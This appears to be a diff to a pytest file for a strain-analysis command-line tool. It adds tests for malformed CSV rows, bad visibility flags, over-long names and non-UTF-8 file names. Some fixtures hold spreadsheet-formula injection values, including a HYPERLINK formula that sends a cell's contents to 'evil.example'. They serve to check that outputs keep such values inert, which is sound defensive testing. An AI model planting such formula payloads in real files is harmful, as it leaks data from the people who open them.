@@ -19,14 +19,26 @@ import tifffile
 import tissue_core.resources as resources
 from strain2d.cli import main
 from tests.badinput import (
+    assert_inert,
     assert_refused,
     interrupt,
     parse_case_id,
+    scratch_left,
     snapshot,
     unwritable_folder,
+    write,
+)
+from tests.filenames import (
+    assert_ran,
+    assert_refused_process,
+    latin1,
+    run_process,
+    shown,
+    strict_json,
 )
 
 PROG = "strain2d"
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
 
 
 @pytest.fixture(scope="module")
@@ -102,6 +114,16 @@ def inputs(small_case, tmp_path_factory):
         with open(d / f"points_{name}.csv", mode) as f:
             f.write(text.encode("latin-1") if mode == "wb" else text)
     (d / "points_bom.csv").write_bytes(b"\xef\xbb\xbfx,y\n10,10\n60,60\nnan,1\n")
+    # rows with more or fewer cells than the header: a decimal comma (10,5 for 10.5) makes one
+    # too many and would shift y into the next column
+    ragged = {
+        "decimal_comma": "x,y\n10,10\n60,5,60\n40,90\n",
+        "decimal_comma_first_row": "x,y\n10,5,10\n60,60\n40,90\n",
+        "short_row": "x,y\n10,10\n60\n40,90\n",
+        "trailing_comma": "x,y\n10,10\n60,60,\n40,90\n",
+    }
+    for name, text in ragged.items():
+        (d / f"points_{name}.csv").write_text(text)
     # track files from another tool, broken
     corners = [(10, 10), (90, 10), (50, 80)]
     rows = [f"{t},{i},{x},{y},1,1\n" for t in range(2) for i, (x, y) in enumerate(corners)]
@@ -114,9 +136,23 @@ def inputs(small_case, tmp_path_factory):
         "no_columns": "a,b\n1,2\n",
         "huge_indices": good + "5,100000000,50,80,1,1\n",  # (T, N) arrays of 6 x 10^8 cells
     }
+    # tracks of the video's 6 frames, each broken in one row (that read silently before)
+    rows = [f"{t},{i},{x},{y},1,1\n" for t in range(6) for i, (x, y) in enumerate(corners)]
+    whole = "frame,point,x,y,visible,quality\n" + "".join(rows)
+    tracks |= {
+        "decimal_comma": whole.replace("1,1,90,10,1,1", "1,1,90,5,10,1,1", 1),
+        "decimal_comma_reference": whole.replace("0,2,50,80,1,1", "0,2,50,80,5,1,1", 1),
+        "short_row": whole.replace("1,1,90,10,1,1", "1,1,90,10,1", 1),
+        "visible_7": whole.replace("1,1,90,10,1,1", "1,1,90,10,7,1", 1),
+        "visible_half": whole.replace("1,1,90,10,1,1", "1,1,90,10,0.5,1", 1),
+        "visible_true": whole.replace("0,1,90,10,1,1", "0,1,90,10,true,1", 1),
+    }
     for name, text in tracks.items():
         (d / f"tracks_{name}.csv").write_text(text)
     np.savez(d / "tracks_ok.npz", positions=np.zeros((2, 3, 2)))
+    visible = np.ones((6, 3))
+    visible[1, 1] = 7
+    np.savez(d / "tracks_visible_7.npz", positions=np.tile(corners, (6, 1, 1)), visible=visible)
     (d / "tracks_corrupt.npz").write_bytes((d / "tracks_ok.npz").read_bytes()[:100])
     np.save(d / "tracks_shape.npy", np.zeros((2, 3)))
     np.savez(d / "tracks_named.npz", coords=np.zeros((2, 3, 2)))
@@ -130,7 +166,52 @@ def inputs(small_case, tmp_path_factory):
     (d / "manifest_missing.csv").write_text("run,group\nnowhere,a\n")
     (d / "manifest_endpoint.csv").write_text("run,endpoint\nnowhere,-1\n")
     (d / "not_a_run").mkdir()
+    # a run folder, and copies whose nodal table has a ragged row or a flag that is not 0 or 1
+    from tests.strain2d.test_study import _field, _write_run
+
+    _write_run(d / "run_ok", _field(0.8, 0.9, rng=np.random.default_rng(0), n_frames=4), endpoint=3)
+    nodes = (d / "run_ok" / "strain_nodes.csv").read_text().splitlines()
+    row = nodes[60].split(",")  # line 61: frame 1
+    damaged = {
+        "run_decimal_comma": [*row[:2], row[2].replace(".", ","), *row[3:]],
+        "run_visible_7": [*row[:6], "7", *row[7:]],
+    }
+    assert nodes[0].split(",")[6] == "visible"
+    for name, cells in damaged.items():
+        shutil.copytree(d / "run_ok", d / name)
+        text = "\n".join([*nodes[:60], ",".join(cells), *nodes[61:]]) + "\n"
+        (d / name / "strain_nodes.csv").write_text(text)
+    manifests = {
+        "extra_cell": "run,group\nrun_ok,a\nrun_ok,b,c\n",
+        "missing_cell": "run,specimen,group\nrun_ok,A,a\nrun_ok,B\n",
+    }
+    for name, text in manifests.items():
+        (d / f"manifest_{name}.csv").write_text(text)
+        (d / f"batch_manifest_{name}.csv").write_text(
+            text.replace("run,", "video,", 1).replace("run_ok", "eq.avi")
+        )
+    # batch manifests: a name too long for a folder, names a spreadsheet would run
+    (d / "batch_long_name.csv").write_text(f"video,specimen\neq.avi,{'x' * 300}\n")
+    (d / "batch_formula.csv").write_text(
+        'video,specimen,group\neq.avi,@SUM(A1),"' + HYPERLINK.replace('"', '""') + '"\n'
+    )
     return c
+
+
+@pytest.fixture(scope="module")
+def formula_runs(inputs, tmp_path_factory):
+    """A run folder under names a spreadsheet would run, and a study manifest naming it so."""
+    d = tmp_path_factory.mktemp("formula_runs")
+    argv = ["-q", "analyze", str(inputs.avi), "--grid", "3x3", "--animation", "none"]
+    assert main([*argv, "--out", str(d / "=1+2")]) == 0
+    shutil.copytree(d / "=1+2", d / "\t@tab")
+    group = '"' + HYPERLINK.replace('"', '""') + '"'
+    (d / "manifest.csv").write_text(f"run,specimen,group\n=1+2,+A1,{group}\n=1+2,-2+3,@SUM(A1)\n")
+    return d
+
+
+def _batch(c, *extra):
+    return ["-q", "batch", "--workers", "1", "--grid", "3x3", "--animation", "none", *extra]
 
 
 def _analyze(c, *extra):
@@ -241,6 +322,41 @@ CASES = [
                              ("no_header", "points_no_header.csv"), ("bom", "finite")]],
     *[(f"track-csv-tracks-{name}", _tracks_file(name), [f"tracks_{name}.csv"])
       for name in ("duplicate_row", "text", "negative_index", "no_columns")],
+    # ---- CSV rows with more or fewer cells than the header, flags that are not 0 or 1
+    *[(f"{command}-csv-ragged-points-{name.replace('_', '-')}", (lambda cmd, n: lambda c, o: [
+        cmd, c.avi, "--points", c.dir / f"points_{n}.csv", "--out", o])(command, name),
+      [f"points_{name}.csv, line {line}", fragment])
+      for command in ("track", "analyze")
+      for name, line, fragment in [
+          ("decimal_comma", 3, "3 cells where the header has 2 (a decimal comma?): 60,5,60"),
+          ("decimal_comma_first_row", 2, "3 cells where the header has 2"),
+          ("short_row", 3, "1 cell where the header has 2: 60"),
+          ("trailing_comma", 3, "3 cells where the header has 2")]],
+    *[(f"track-csv-ragged-tracks-{name.replace('_', '-')}", _tracks_file(name),
+       [f"tracks_{name}.csv, line {line}", fragment])
+      for name, line, fragment in [
+          ("decimal_comma", 6, "7 cells where the header has 6 (a decimal comma?)"),
+          ("decimal_comma_reference", 4, "7 cells where the header has 6"),
+          ("short_row", 6, "5 cells where the header has 6")]],
+    *[(f"track-csv-visible-tracks-{name}", _tracks_file(f"visible_{name}"),
+       [f"tracks_visible_{name}.csv, line {line}", fragment])
+      for name, line, fragment in [("7", 6, "visible must be 0 or 1, got 7"),
+                                   ("half", 6, "visible must be 0 or 1, got 0.5"),
+                                   ("true", 3, "not a number")]],
+    ("track-csv-visible-tracks-npz-7", lambda c, o: ["track", "--tracker", "imported", c.avi,
+     "--tracks-file", c.dir / "tracks_visible_7.npz", "--out", o],
+     ["tracks_visible_7.npz", "visible must hold 0 or 1", "got 7"]),
+    ("study-csv-ragged-strain-nodes", lambda c, o: ["study", c.dir / "run_decimal_comma",
+     "--out", o], ["strain_nodes.csv, line 61", "cells where the header has", "decimal comma"]),
+    ("study-csv-visible-strain-nodes-7", lambda c, o: ["study", c.dir / "run_visible_7",
+     "--out", o], ["strain_nodes.csv, line 61", "visible must be 0 or 1, got 7"]),
+    *[(f"{command}-csv-ragged-manifest-{name.replace('_', '-')}", (lambda cmd, n: lambda c, o: [
+        cmd, *(["--manifest"] if cmd == "study" else []),
+        c.dir / f"{'batch_' if cmd == 'batch' else ''}manifest_{n}.csv", "--out", o])(
+            command, name), [f"manifest_{name}.csv, line 3: {fragment}"])
+      for command in ("study", "batch")
+      for name, fragment in [("extra_cell", "3 cells where the header has 2 (a decimal comma?)"),
+                             ("missing_cell", "2 cells where the header has 3")]],
     # ---- options out of range
     ("analyze-option-grid-1x5", lambda c, o: ["analyze", c.avi, "--grid", "1x5", "--out", o],
      ["--grid"]),
@@ -345,6 +461,21 @@ CASES = [
     ("study-conflict-runs-and-manifest", lambda c, o: ["study", c.dir / "not_a_run",
      "--manifest", c.dir / "manifest_norun.csv", "--out", o], ["--manifest"]),
     ("study-conflict-nothing-to-combine", lambda c, o: ["study", "--out", o], ["run folders"]),
+    # ---- names longer than a folder's name may be: refused before any folder is made
+    ("analyze-output-name-too-long", lambda c, o: _analyze(c, "--out", o.parent / ("x" * 250)),
+     ["--out", "250 bytes long", "at most 241"]),
+    ("batch-csv-specimen-name-too-long", lambda c, o: _batch(c, c.dir / "batch_long_name.csv",
+     "--out", o), ["batch_long_name.csv, line 2", "specimen", "300 bytes long"]),
+    ("batch-output-name-too-long", lambda c, o: _batch(c, c.dir / "batch_formula.csv", "--out",
+     o / ("x" * 300)), ["--out", "300 bytes long"]),
+    # ---- names a spreadsheet would run as formulas: accepted, and every CSV holds them inert
+    # (fragments None: see tests.badinput.assert_inert)
+    ("batch-formula-specimen-and-group", lambda c, o: _batch(c, c.dir / "batch_formula.csv",
+     "--out", o), None),
+    ("study-formula-manifest-names", lambda c, o: ["study", "--manifest",
+     c.runs / "manifest.csv", "--out", o], None),
+    ("study-formula-run-folder-names", lambda c, o: ["study", c.runs / "=1+2", c.runs / "\t@tab",
+     "--out", o], None),
 ]
 # fmt: on
 
@@ -424,23 +555,29 @@ PATCHES = {
 
 
 @pytest.mark.parametrize(("case", "build", "fragments"), ALL, ids=[c[0] for c in ALL])
-def test_bad_input(inputs, tmp_path, capsys, monkeypatch, case, build, fragments):
+def test_bad_input(inputs, tmp_path, capsys, monkeypatch, request, case, build, fragments):
     monkeypatch.chdir(inputs.dir)
     if case in PATCHES:
         PATCHES[case](monkeypatch)
     out = tmp_path / "out"
+    read = [inputs.dir]
+    if case.startswith("study-formula-"):
+        inputs.runs = request.getfixturevalue("formula_runs")
+        read.append(inputs.runs)
     argv = [str(a) for a in build(inputs, out)]
     if "-q" not in argv:
         argv = ["-q", *argv]
-    assert_refused(main, argv, capsys, prog=PROG, fragments=fragments, inputs=[inputs.dir],
-                   out=out)  # fmt: skip
+    if fragments is None:  # accepted: see tests.badinput.assert_inert
+        assert_inert(main, argv, capsys, out=out, inputs=read)
+        return
+    assert_refused(main, argv, capsys, prog=PROG, fragments=fragments, inputs=read, out=out)
     assert not out.exists()
 
 
 def test_bad_input_cases_name_their_command_and_family():
     for case, *_ in ALL:
         command, _family, name = parse_case_id(case)
-        assert command in ("analyze", "track", "study", "benchmark") and name, case
+        assert command in ("analyze", "track", "study", "batch", "benchmark") and name, case
     assert len({case for case, *_ in ALL}) == len(ALL)
 
 
@@ -494,3 +631,177 @@ def test_a_foreign_folder_survives_an_overwrite_attempt_untouched(inputs, capsys
         assert "is not a result of this toolkit" in capsys.readouterr().err
     assert snapshot(inputs.mine) == before
     assert Path(inputs.mine / "chapter1.tex").read_text() == "years of work"
+
+
+# ---- names that are not UTF-8 (Windows-origin and shared drives) ---------------------------
+# Each case is a real process given its names as bytes: OpenCV crashed the process on such a
+# name (exit 139, nothing said).  Every command reads and writes them: exit 0, the same tracks
+# as from plainly named files, every text file it wrote valid UTF-8 (names shown as \xNN).
+
+ROI = ["--grid", "3x3", "--roi", "40,40,88,88", "--tracker", "klt"]
+
+
+@pytest.fixture(scope="module")
+def latin1_names(tmp_path_factory):
+    """A folder named in Latin-1 with a video, a TIFF, a folder of images, points and run
+    folders so named; and the tracks that the same frames give under plain names."""
+    import cv2
+    from scipy import ndimage
+
+    from sample_data_synth import write_video
+    from surface_strain.cli import main as surface_main
+    from tests.surface_strain.test_cli import _tilted_sheet_tracks, _write
+
+    plain = tmp_path_factory.mktemp("plain")
+    d = tmp_path_factory.mktemp(latin1("Messdatén"))
+    rng = np.random.default_rng(0)
+    texture = ndimage.gaussian_filter(rng.uniform(0, 255, (128, 140)), 2)
+    texture = np.clip((texture - texture.mean()) * 6 + 128, 0, 255)
+    frames = np.stack([texture[:, 8 - 2 * k : 136 - 2 * k] for k in range(4)]).astype(np.uint8)
+    c = SimpleNamespace(dir=d, frames=frames)
+    write_video(frames, plain / "video.avi")
+    c.video, c.tif, c.images = (
+        d / latin1("vidéo.avi"),
+        d / latin1("stäck.tif"),
+        d / latin1("imagés"),
+    )
+    shutil.copy(plain / "video.avi", c.video)
+    write_video(frames, c.tif)
+    c.images.mkdir()
+    for k, frame in enumerate(frames):
+        (c.images / latin1(f"trame_é_{k}.png")).write_bytes(cv2.imencode(".png", frame)[1])
+    c.points = write(d, latin1("pöints.csv"), "x,y\n40,40\n88,40\n64,88\n88,88\n")
+    assert main(["-q", "track", str(plain / "video.avi"), *ROI, "--out",
+                 str(plain / "tracks.csv")]) == 0  # fmt: skip
+    c.tracks = (plain / "tracks.csv").read_bytes()
+    # two run folders so named, for the study (3D runs: made without figures, quickly)
+    points, *_ = _tilted_sheet_tracks(frames=3)
+    _write(plain / "points3d.csv", points)
+    assert surface_main(["-q", "compute", str(plain / "points3d.csv"), "--grid", "5x5",
+                         "--no-figures", "--out", str(plain / "run")]) == 0  # fmt: skip
+    c.runs = [d / latin1(f"spécimen_{k}") for k in "AB"]
+    for run in c.runs:
+        shutil.copytree(plain / "run", run)
+    return c
+
+
+def _analyze_names(c, source, tmp):
+    out = tmp / latin1("résultats")
+    return ["analyze", source, *ROI, "--animation", "mp4", "--out", out], out
+
+
+def _names_case_analyze_video(c, tmp):
+    argv, out = _analyze_names(c, c.video, tmp)
+    assert_ran(["-m", "strain2d", *argv], out)
+    assert (out / "tracks.csv").read_bytes() == c.tracks
+    summary = strict_json(out / "summary.json")
+    assert shown(c.video) in summary["command"]
+    assert (out / "figures" / "strain_animation.mp4").stat().st_size > 0
+    assert shown(c.video) in (out / "report.html").read_text(encoding="utf-8")
+
+
+def _names_case_track_tiff(c, tmp):
+    out = tmp / latin1("träcks.csv")
+    assert_ran(["-m", "strain2d", "track", c.tif, *ROI, "--out", out], out)
+    assert out.read_bytes() == c.tracks
+
+
+def _names_case_analyze_image_folder(c, tmp):
+    argv, out = _analyze_names(c, c.images, tmp)
+    assert_ran(["-m", "strain2d", *argv[:-3], "gif", "--out", out], out)
+    assert (out / "tracks.csv").read_bytes() == c.tracks
+    assert (out / "figures" / "strain_animation.gif").stat().st_size > 0
+
+
+def _names_case_track_points_and_out(c, tmp):
+    out = tmp / latin1("träcks.csv")
+    argv = ["-m", "strain2d", "track", c.video, "--points", c.points, "--tracker", "klt"]
+    assert_ran([*argv, "--out", out], out)
+    first = out.read_text(encoding="utf-8")
+    assert first.startswith("frame,point,x,y,visible,quality\n0,0,40.0")
+    ledger = strict_json(tmp / ".tissue-strain-files.json")
+    assert list(ledger["files"]) == [shown(out.name)]
+    # the ledger finds the file again: --overwrite replaces it, without it the file is kept
+    status, err = run_process([*argv, "--out", out])
+    assert status == 2 and "pass --overwrite" in err and shown(out) in err
+    assert_ran([*argv, "--out", out, "--overwrite"], out)
+    # and the tracks are read back from a file so named
+    again = tmp / "again.csv"
+    assert main(["-q", "track", "--tracker", "imported", str(c.video), "--tracks-file", str(out),
+                 "--out", str(again)]) == 0  # fmt: skip
+    assert again.read_text(encoding="utf-8") == first
+
+
+def _names_case_study_runs(c, tmp):
+    out = tmp / latin1("étude")
+    assert_ran(["-m", "strain2d", "study", *c.runs, "--out", out], out)
+    specimens = (out / "specimens.csv").read_text(encoding="utf-8")
+    assert "sp\\xe9cimen_A," in specimens and "sp\\xe9cimen_B," in specimens
+
+
+def _names_case_batch_manifest_and_out(c, tmp):
+    folder = tmp / latin1("lot_é")
+    folder.mkdir()
+    shutil.copy(c.video, folder / "S1.avi")
+    manifest = write(folder, "manifest.csv", "video,group\nS1.avi,a\n")
+    out = tmp / latin1("sortie_é")
+    argv = ["-m", "strain2d", "batch", manifest, *ROI, "--animation", "none", "--workers", "1",
+            "--no-study", "--out", out]  # fmt: skip
+    assert_ran(argv, out)
+    assert (out / "runs" / "S1" / "tracks.csv").read_bytes() == c.tracks
+    # a second batch finds the run complete (its marker records the names readably)
+    err = assert_ran(argv, out)
+    assert "1 complete already, nothing to run" in err, err
+
+
+def _names_case_benchmark_out(c, tmp):
+    out = tmp / latin1("bänch")
+    assert_ran(["-m", "strain2d", "benchmark", "--quick", "--cases", "rotation", "--trackers",
+                "klt", "--no-figures", "--out", out], out)  # fmt: skip
+    assert strict_json(out / "benchmark.json")
+
+
+def _names_case_analyze_damaged_video(c, tmp):
+    video = write(tmp, latin1("abîmée.avi"), "not a video\n")
+    out = tmp / "run"
+    assert_refused_process(["-m", "strain2d", "analyze", video, "--out", out],
+                           fragments=["strain2d analyze: error:", shown(video)])  # fmt: skip
+    assert not out.exists()
+
+
+def _names_case_track_missing_points(c, tmp):
+    out = tmp / "tracks.csv"
+    missing = tmp / latin1("pöints_perdus.csv")
+    assert_refused_process(["-m", "strain2d", "track", c.video, "--points", missing, "--out", out],
+                           fragments=[shown(missing)])  # fmt: skip
+    assert not out.exists()
+
+
+NAME_CASES = {
+    "analyze-filename-damaged-video": _names_case_analyze_damaged_video,
+    "track-filename-missing-points": _names_case_track_missing_points,
+    "analyze-filename-video": _names_case_analyze_video,
+    "analyze-filename-image-folder": _names_case_analyze_image_folder,
+    "track-filename-tiff": _names_case_track_tiff,
+    "track-filename-points-and-out": _names_case_track_points_and_out,
+    "study-filename-runs": _names_case_study_runs,
+    "batch-filename-manifest-and-out": _names_case_batch_manifest_and_out,
+    "benchmark-filename-out": _names_case_benchmark_out,
+}
+
+
+class TestNamesNotUtf8:
+    """The bad-input matrix's ``filename`` family: names that are not UTF-8 are read and
+    written (``test_bad_input[COMMAND-filename-CASE]``, counted with the refusals)."""
+
+    @pytest.mark.parametrize("case", list(NAME_CASES), ids=list(NAME_CASES))
+    def test_bad_input(self, latin1_names, tmp_path, case):
+        command, family, _ = parse_case_id(case)
+        assert family == "filename" and command in ("analyze", "track", "study", "batch",
+                                                    "benchmark")  # fmt: skip
+        tmp = tmp_path / latin1("dossier_é")
+        tmp.mkdir()
+        before = snapshot(latin1_names.dir)
+        NAME_CASES[case](latin1_names, tmp)
+        assert snapshot(latin1_names.dir) == before  # inputs untouched
+        assert scratch_left(tmp) == []
